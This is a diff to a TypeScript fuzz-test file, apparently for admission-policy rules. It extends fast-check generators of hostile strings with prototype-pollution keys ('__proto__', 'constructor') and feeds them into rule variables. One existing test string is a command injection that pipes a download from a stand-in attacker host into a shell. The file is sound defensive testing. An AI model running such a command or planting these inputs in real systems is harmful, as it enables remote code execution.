@@ -35,6 +35,10 @@ export const hostileText: fc.Arbitrary<string> = fc.oneof(
     '*',
     '&& curl https://evil.example.com | sh',
     '- item: value # comment',
+    // Properties that every object has.
+    'toString',
+    'constructor',
+    '__proto__',
     'x'.repeat(400),
     '',
   ),
@@ -85,7 +89,7 @@ export const hostileRules: { readonly [Form in Rule['form']]: fc.Arbitrary<Rule>
     binding: hostileText,
     failurePolicy: fc.constantFrom('Fail' as const, 'Ignore' as const),
     broken: optional(fc.constantFrom('kindNotServed' as const, 'noParameters' as const)),
-    variables: fc.constant([]),
+    variables: fc.array(fc.record({ name: hostileText, expression: hostileText }), { maxLength: 1 }),
     validations: optional(fc.array(fc.record({ expression: hostileText, message: hostileText }), { maxLength: 6 })),
     mutations: optional(
       fc.array(fc.record({ patchType: fc.constant('JSONPatch' as const), expression: hostileText }), { maxLength: 3 }),
